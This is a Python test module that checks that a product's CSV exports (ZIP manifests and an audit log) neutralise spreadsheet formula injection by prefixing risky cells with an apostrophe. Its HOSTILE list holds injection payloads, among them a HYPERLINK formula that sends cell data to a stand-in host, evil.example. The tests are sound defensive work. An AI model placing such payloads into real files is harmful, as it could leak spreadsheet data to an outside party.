"""No CSV the product writes runs a formula: names, external IDs and teams that a customer typed reach manifest.csv (the
streaming ZIP export and export jobs) and the audit CSV with a leading ' when they would start one (OWASP's rule)."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest

from audit.services import record
from integrations.export_jobs import export_job_run, export_job_start
from teams.models import Team
from tenancy.models import Role
from tests.factories import client_for, make_employee, make_user
from tests.integrations.test_export_jobs import add_headshot
from tests.urls import tenant_url

pytestmark = pytest.mark.django_db

# What a hostile admin or directory can put in a name, external ID or team: each starts a formula in a spreadsheet.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1-2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "\uff1dSUM(A1)"]


@pytest.fixture
def hostile_people(org_a):
    """One approved person per hostile value, in the name, the external ID and the team at once."""
    people = []
    for i, value in enumerate(HOSTILE):
        team = Team.objects.create(organization=org_a, name=f"{value} {i}")
        employee = make_employee(org_a, name=f"{value} name", email=f"p{i}@acme.example", external_id=f"{value}{i}")
        employee.team = team
        employee.save()
        headshot = add_headshot(employee, real=False)
        # A negative number the product computed itself stays a number.
        headshot.qc = {"identity_distance": 0.3, "exposure_shift": -0.25}
        headshot.save()
        people.append(employee)
    return people


def manifest_cells(archive: zipfile.ZipFile) -> tuple[list[dict], list[str]]:
    text = archive.read("manifest.csv").decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return rows, [cell for row in rows for cell in row.values()]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_neutralised(rows: list[dict], cells: list[str], people) -> None:
    for cell in cells:
        # Numbers the product computed (-0.25) are numbers to a spreadsheet, never formulas.
        assert is_number(cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), repr(cell)
    by_email = {row["email"]: row for row in rows}
    for person in people:
        row = by_email[person.email]
        # Shown as typed, after the ' that spreadsheets read as "this is text".
        assert row["name"] == "'" + person.name
        assert row["external_id"] == "'" + person.external_id
        assert row["team"] == "'" + person.team.name


def test_the_streaming_zip_export_manifest_never_starts_a_formula(org_a, hostile_people):
    admin = client_for(make_user(org_a, Role.ADMIN))
    response = admin.get(tenant_url("headshot-export", org_a))
    assert response.status_code == 200
    rows, cells = manifest_cells(zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))))
    assert len(rows) == len(HOSTILE)
    assert_neutralised(rows, cells, hostile_people)
    assert {row["qc_exposure_shift"] for row in rows} == {"-0.25"} and rows[0]["identity_distance"] == "0.3"


@pytest.mark.parametrize("preset", ["workday", "hibob"])
def test_an_export_jobs_manifest_never_starts_a_formula(org_a, hostile_people, preset):
    job = export_job_run(job_id=export_job_start(organization=org_a, preset=preset, created_by=None).pk)
    assert job.status == "done", job.error
    with job.file.open("rb") as handle, zipfile.ZipFile(handle) as archive:
        rows, cells = manifest_cells(archive)
    assert len(rows) == len(HOSTILE)
    assert_neutralised(rows, cells, hostile_people)


def test_the_audit_csv_neutralises_every_kind_of_formula_start(org_a):
    admin = make_user(org_a, Role.ADMIN)
    for value in HOSTILE:
        record(action=value[:64], organization=org_a, actor="system", object=("employee", value[:64]))
    response = client_for(admin).get(tenant_url("audit-event-csv", org_a))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert sorted(row["action"] for row in rows) == sorted("'" + value[:64] for value in HOSTILE)
    assert all(row["object_id"].startswith("'") for row in rows)
